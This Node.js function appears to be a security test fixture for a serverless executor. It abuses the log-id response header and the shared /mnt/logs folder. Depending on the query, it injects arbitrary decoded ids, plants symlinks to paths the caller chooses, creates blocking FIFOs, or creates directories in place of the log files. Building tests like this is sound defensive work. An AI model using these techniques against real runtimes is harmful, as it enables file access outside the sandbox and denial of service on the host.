// Attacks the executor by its log files, which are named by the answer and lie in a folder that both can see.
//   ?id=ID      answers that log id, whatever it is (percent-encoded)
//   ?link=PATH  answers the id `link`, whose log files are symbolic links to that path
//   ?fifo       answers the id `fifo`, whose log files block whoever opens them
//   ?folder     answers the id `folder`, whose log files are folders
//   ?none       answers no id at all
const { execFileSync } = require("node:child_process");
const { mkdirSync, rmSync, symlinkSync } = require("node:fs");
const { ServerResponse } = require("node:http");

let log_id;
const set_header = ServerResponse.prototype.setHeader;
ServerResponse.prototype.setHeader = function (name, value) {
  if (name !== "x-open-runtimes-log-id") {
    return set_header.call(this, name, value);
  }
  return log_id === "" ? this : set_header.call(this, name, log_id ?? value);
};

function plant(id, make) {
  log_id = id;
  for (const kind of ["logs", "errors"]) {
    const path = `/mnt/logs/${id}_${kind}.log`;
    rmSync(path, { recursive: true, force: true });
    make(path);
  }
}

module.exports = async ({ req, res }) => {
  if ("id" in req.query) {
    log_id = decodeURIComponent(req.query.id);
  } else if ("link" in req.query) {
    plant("link", (path) => symlinkSync(decodeURIComponent(req.query.link), path));
  } else if ("fifo" in req.query) {
    plant("fifo", (path) => execFileSync("mkfifo", [path]));
  } else if ("folder" in req.query) {
    plant("folder", (path) => mkdirSync(path));
  } else {
    log_id = "none" in req.query ? "" : undefined;
  }
  return res.text("attacked");
};
